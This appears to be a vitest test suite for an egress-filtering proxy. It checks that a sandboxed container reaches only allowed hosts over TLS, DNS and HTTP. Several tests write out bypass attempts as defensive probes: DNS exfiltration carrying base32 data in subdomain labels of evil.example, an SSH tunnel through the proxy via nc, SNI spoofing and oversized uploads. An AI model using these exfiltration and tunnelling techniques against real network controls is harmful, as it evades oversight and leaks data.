import { readFile } from 'node:fs/promises';
import { beforeAll, describe, expect, test } from 'vitest';
import { isDecided } from '../helpers/decisions.ts';
import type { Lab, Outcome } from '../helpers/lab.ts';

const PROXY = '10.89.77.2';
const HELLO = 'hello from the internet';
const STATUS = `-o /dev/null -w '%{http_code} %header{x-whisper-proxy-reason}'`;
/** As data leaves by look-ups: in labels, in base 32. */
const DATA = 'mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpiyte.nb2hi4dthixs653xo4xg4ztfonzs4y3pnu';

/** Programs that know of no proxy, and those that would use a way for something else than it is for. */
export function quietWays(lab: Lab): void {
  const bare = (command: string, input = ''): Promise<Outcome> =>
    lab.attempt(`podman exec -i whisper ${command}`, input);
  const record = async (name: 'internet.log' | 'dns.log') =>
    (await readFile(`${await lab.folder()}/${name}`, 'utf8')).trim().split('\n');
  /** Does a thing, and returns what reached the internet meanwhile. */
  const reached = async (what: () => Promise<unknown>) => {
    const before = (await record('internet.log')).length;
    await what();
    return (await record('internet.log')).slice(before);
  };
  let since = 0;

  describe('programs in whisper that know of no proxy', () => {
    beforeAll(async () => {
      since = await lab.now();
    });

    test('curl reaches an allowed host by TLS', async () => {
      expect((await bare('curl -sSk https://huggingface.co/')).stdout).toContain(HELLO);
      await isDecided(lab, since, {
        ...{ decision: 'allow', via: 'tls', host: 'huggingface.co', port: 443 },
        ...{ address: '1.1.1.80', client: '10.89.77.3' },
      });
    });

    test("so does Python's urllib", async () => {
      const script = `
import ssl, urllib.request
print(urllib.request.urlopen("https://huggingface.co/", context=ssl._create_unverified_context()).read())`;
      expect((await bare('python3 -', script)).stdout).toContain(HELLO);
    });

    test("and Node's fetch", async () => {
      const script = 'fetch("https://huggingface.co/").then((it) => it.text()).then(console.log)';
      const { stdout } = await bare(`env NODE_TLS_REJECT_UNAUTHORIZED=0 node -e '${script}'`);
      expect(stdout).toContain(HELLO);
    });

    test('openssl does with the name of the server, and without it not', async () => {
      const sclient = 'openssl s_client -connect huggingface.co:443';
      expect((await bare(sclient)).stdout).toContain('CN=huggingface.co');
      const reading = await reached(async () => {
        const { status, stderr } = await bare(`${sclient} -noservername`);
        expect(status).toBe(1);
        expect(stderr).toContain('alert number 112');
      });
      expect(reading).toEqual([]);
      await isDecided(lab, since, { decision: 'deny', via: 'tls', reason: 'no_sni', host: null });
    });

    test("another name in Python's ssl is an alert, and goes nowhere", async () => {
      const script = `
import socket, ssl
try:
    ssl._create_unverified_context().wrap_socket(socket.create_connection(("huggingface.co", 443)), server_hostname="evil.example")
except ssl.SSLError as error:
    print(error.reason)`;
      const reading = await reached(async () =>
        expect((await bare('python3 -', script)).stdout).toBe('TLSV1_ALERT_ACCESS_DENIED\n'),
      );
      expect(reading).toEqual([]);
      await isDecided(lab, since, { decision: 'deny', via: 'tls', host: 'evil.example' });
    });

    test('plain HTTP to a host that is allowed for TLS alone is refused, and says why', async () => {
      const { stdout } = await bare(`curl -sS ${STATUS} http://huggingface.co/`);
      expect(stdout).toBe('403 not_allowed');
      await isDecided(lab, since, {
        ...{ decision: 'deny', via: 'transparent_http', reason: 'not_allowed' },
        ...{ host: 'huggingface.co', port: 80 },
      });
    });

    test.each([
      ['huggingface.co A', 'NOERROR', [PROXY]],
      ['huggingface.co A +tcp', 'NOERROR', [PROXY]],
      ['huggingface.co A +noedns', 'NOERROR', [PROXY]],
      ['huggingface.co A +dnssec', 'NOERROR', [PROXY]],
      ['huggingface.co AAAA', 'NOERROR', []],
      ['huggingface.co TXT', 'NOERROR', []],
      ['whisper-proxy A', 'NOERROR', [PROXY]],
      ['whisper-gate A', 'NOERROR', ['10.89.77.3']],
      ['www.huggingface.co A', 'NXDOMAIN', []],
      ['nothing.example A', 'NXDOMAIN', []],
      ['nothing.example TXT +tcp', 'NXDOMAIN', []],
    ])('dig %s: %s %j', async (question, status, answers) => {
      const { stdout } = await bare(`dig ${question} +noall +comments +answer`);
      expect(/status: (\w+)/.exec(stdout)?.[1]).toBe(status);
      expect([...stdout.matchAll(/\tIN\t\w+\t(.*)/g)].map(([, data]) => data)).toEqual(answers);
    });

    test('glibc finds an allowed name at the proxy, and no other name', async () => {
      expect((await bare('getent hosts huggingface.co')).stdout).toMatch(/^10\.89\.77\.2 +hugg/);
      const { stdout } = await bare('getent ahosts huggingface.co');
      expect(new Set(stdout.match(/^\S+/gm))).toEqual(new Set([PROXY]));
      expect(await bare('getent hosts evil.example')).toMatchObject({ status: 2, stdout: '' });
    });

    test('data in the labels of a name goes no further than into the journal', async () => {
      const host = `${DATA}.evil.example`;
      expect((await bare(`dig ${host} TXT`)).stdout).toContain('status: NXDOMAIN');
      await isDecided(lab, since, {
        ...{ decision: 'deny', via: 'dns', reason: 'not_allowed' },
        ...{ method: 'TXT', host, client: '10.89.77.3' },
      });
      const asked = (await record('dns.log')).filter((line) => line.includes('evil.example'));
      expect(asked).toEqual([]);
    });
  });

  describe('a tunnel to an allowed host', () => {
    test('carries no SSH: not a byte of it arrives', async () => {
      const command = `ssh -v -p 443 -o BatchMode=yes -o StrictHostKeyChecking=no -o ProxyCommand="nc -X connect -x ${PROXY}:3128 %h %p" root@huggingface.co`;
      const reading = await reached(async () => {
        const { status, stderr } = await bare(`timeout 20 ${command}`);
        expect({ status, stderr }).toEqual({
          status: 255,
          stderr: expect.stringContaining('Local version string SSH-2.0'),
        });
      });
      expect(reading.filter((line) => line.startsWith('tls'))).toEqual([]);
      await isDecided(lab, since, {
        ...{ decision: 'deny', via: 'connect', reason: 'no_sni', error: 'not_tls' },
        ...{ host: 'huggingface.co', port: 443, bytes_out: 0 },
      });
    });

    test('carries TLS for no other server', async () => {
      const other = 'openssl s_client -connect huggingface.co:443 -servername evil.example -proxy';
      const reading = await reached(async () => {
        expect((await bare(`${other} ${PROXY}:3128`)).stderr).toContain('alert number 112');
      });
      expect(reading.filter((line) => line.startsWith('tls'))).toEqual([]);
      await isDecided(lab, since, {
        ...{ decision: 'deny', via: 'connect', reason: 'sni_mismatch', sni: 'evil.example' },
        ...{ host: 'huggingface.co', port: 443, bytes_out: 0 },
      });
    });

    test('carries TLS for that host, whose first bytes name it', async () => {
      const name = Buffer.from('huggingface.co').toString('hex');
      const reading = await reached(async () => {
        const { stdout } = await bare(
          `curl -sSk --proxy http://${PROXY}:3128 https://huggingface.co`,
        );
        expect(stdout).toContain(HELLO);
      });
      expect(reading.filter((line) => line.startsWith('tls 1.1.1.80:443'))).toEqual([
        expect.stringContaining(name),
      ]);
    });
  });

  describe('a neighbour on visp-net', () => {
    test('gets nothing from the doors that are for whisper', async () => {
      const from = (command: string) => lab.attempt(`podman exec mongo ${command}`);
      const at = (port: number) => `--max-time 5 --resolve huggingface.co:${port}:${PROXY}`;
      since = await lab.now();
      const http = await from(`curl -sS ${STATUS} ${at(80)} http://huggingface.co/`);
      expect(http.stdout).toBe('403 client_not_allowed');
      const tls = await from(`curl -sSk ${at(443)} https://huggingface.co/`);
      // Reset before it is known to be connected (7), or after that (35).
      expect(tls).toMatchObject({ stdout: '', status: expect.toBeOneOf([7, 35]) });
      const dig = async (option: string) =>
        (await from(`dig @${PROXY} huggingface.co ${option} +tries=1 +timeout=2 +noall +comments`))
          .stdout;
      expect(await dig('+notcp')).toContain('status: REFUSED');
      expect(await dig('+tcp')).toMatch(/connection reset|end of file/);
      for (const via of ['transparent_http', 'tls', 'dns']) {
        await isDecided(lab, since, { decision: 'deny', via, reason: 'client_not_allowed' });
      }
    });
  });

  describe('with rules for port 80, a limit on uploads, and report mode', () => {
    const file = `${lab.units}/whisper-proxy/whisper-proxy.env`;
    const restart = async () => {
      await lab.systemctl('restart', 'whisper-proxy');
      await lab.until('podman exec whisper-proxy whisper-proxy health');
      since = await lab.now();
    };

    beforeAll(async () => {
      const lines = [
        'EGRESS_ALLOW_PLAIN=huggingface.co:80',
        'EGRESS_ALLOW_SMALL=pypi.org pypi.org:80',
        'EGRESS_MAX_UPLOAD_SMALL=64KiB',
        'EGRESS_MODE=report',
      ];
      await lab.sh(`cat >>${file}`, `${lines.join('\n')}\n`);
      await restart();
    });

    test('plain HTTP is let through', async () => {
      expect((await bare('curl -sS http://huggingface.co/')).stdout).toContain(HELLO);
      await isDecided(lab, since, {
        ...{ decision: 'allow', via: 'transparent_http', rule: 'PLAIN huggingface.co:80' },
      });
    });

    test('an upload ends at its limit, and the journal has how far it came', async () => {
      const upload = 'openssl s_client -quiet -connect pypi.org:443';
      const { status } = await bare(`sh -c 'head -c 2000000 /dev/zero | ${upload} >/dev/null'`);
      expect(status).not.toBe(0);
      const denial = { decision: 'deny', reason: 'upload_limit', rule: 'SMALL pypi.org' };
      await isDecided(lab, since, { ...denial, via: 'tls', bytes_out: expect.any(Number) });
      const journal = await lab.journal('whisper-proxy', since);
      const sent = Number(/"reason":"upload_limit".*"bytes_out":(\d+)/.exec(journal)?.[1]);
      expect(sent).toBeGreaterThan(1_000);
      expect(sent).toBeLessThanOrEqual(65_536);
    });

    test('an upload by plain HTTP is told so', async () => {
      const upload = `curl -sS ${STATUS} --data-binary @- http://pypi.org/`;
      expect((await bare(upload, 'x'.repeat(100_000))).stdout).toBe('413 upload_limit');
    });

    test('a download from there has no limit', async () => {
      const { stdout } = await bare('curl -sSk https://pypi.org/5000000');
      expect(stdout).toHaveLength(5_000_000);
    });

    test('report mode answers every name, and lets it through', async () => {
      expect((await bare('getent hosts evil.example')).stdout).toMatch(/^10\.89\.77\.2 /);
      expect((await bare('curl -sSk https://evil.example/')).stdout).toContain(HELLO);
      for (const via of ['dns', 'tls']) {
        await isDecided(lab, since, { decision: 'would_deny', via, host: 'evil.example' });
      }
    });

    test('without it, none of that is left', async () => {
      await lab.sh(`sed -i /^EGRESS_MODE=/d ${file}`);
      await restart();
      const reading = await reached(async () => {
        expect((await bare('curl -sSk https://evil.example/')).stderr).toContain('not resolve');
        const { stderr } = await bare(
          `curl -sSk --resolve evil.example:443:${PROXY} https://evil.example/`,
        );
        expect(stderr).toContain('alert');
      });
      expect(reading).toEqual([]);
    });
  });
}
